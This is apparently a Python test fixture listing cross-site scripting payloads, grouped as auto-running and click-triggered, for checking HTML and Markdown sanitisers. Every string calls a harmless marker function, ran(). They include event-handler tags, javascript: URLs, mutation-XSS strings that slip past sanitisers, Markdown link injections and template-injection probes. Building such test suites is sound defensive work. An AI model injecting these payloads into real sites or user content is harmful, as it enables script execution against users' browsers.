"""Strings that run `ran()` where they are not escaped or cleaned, one for each mechanism.

After the cheat sheets of OWASP and PortSwigger and published mutation attacks on sanitisers.
"""

from __future__ import annotations

# They run without a click, in a browser that takes them as HTML.
RUNNING = (
    "<script>ran()</script>",
    "<ScRiPt >ran()</sCrIpT>",
    "<img src=x onerror=ran()>",
    "<img/src=x/onerror=ran()>",
    '<img src="x"onerror="ran()">',
    "<img src=x onerror=&#114;an()>",
    "<svg onload=ran()>",
    "<svg/onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><script>&#114;an()</script></svg>",
    "<svg><style><img src=x onerror=ran()></style></svg>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()></audio>",
    "<details open ontoggle=ran()>x</details>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()></select>",
    "<textarea autofocus onfocus=ran()></textarea>",
    "<iframe onload=ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    "<object data='javascript:ran()' onerror=ran()></object>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=ran()>x</b>",
    "<link rel=stylesheet href=x onerror=ran()>",
    "<body onpageshow=ran()>",
    "'\"><script>ran()</script>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</script><script>ran()</script>",
    "--><script>ran()</script>",
    "<!--><img src=x onerror=ran()>-->",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    # Mutations: what a sanitiser sees is not what a second parser makes of it.
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=ran()>'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=ran()>",
    "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "<svg><desc><img src=x onerror=ran()></desc></svg>",
    "<template><img src=x onerror=ran()></template><img src=x onerror=ran()>",
    "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
    "<p id='</p><img src=x onerror=ran()>",
)
# These need a click, another parser, or Markdown; none may leave a link that runs.
WAITING = (
    "<a href='javascript:ran()'>x</a>",
    "<a href='JaVaScRiPt&colon;ran()'>x</a>",
    "<a href='java\tscript:ran()'>x</a>",
    "<a href='\x01javascript:ran()'>x</a>",
    "<a href='data:text/html,<script>ran()</script>'>x</a>",
    "<a href='vbscript:ran()'>x</a>",
    "<form action='javascript:ran()'><button>x</button></form>",
    "<button formaction='javascript:ran()'>x</button>",
    "<svg><a xlink:href='javascript:ran()'><text>x</text></a></svg>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<base href='javascript:ran()//'>",
    "[x](javascript:ran())",
    "[x](JaVaScRiPt&#58;ran())",
    "[x](<javascript:ran()>)",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[x]: javascript:ran()\n\n[x]",
    "<javascript:ran()>",
    "![x](x\"onerror='ran()')",
    '[x](https://x.example/"onmouseover="ran())',
    "`<script>ran()</script>`",
    "    <script>ran()</script>",
    "{{ constructor.constructor('ran()')() }}",
    "${ran()}",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
)
PAYLOADS = (*RUNNING, *WAITING)
# One string for columns and fields: it leaves text, attributes and scripts.
SHORT = "'\"><img src=x onerror=ran()>"
LONG = f"{SHORT}</title></textarea></script><script>ran()</script><svg onload=ran()>{{{{7*7}}}}"
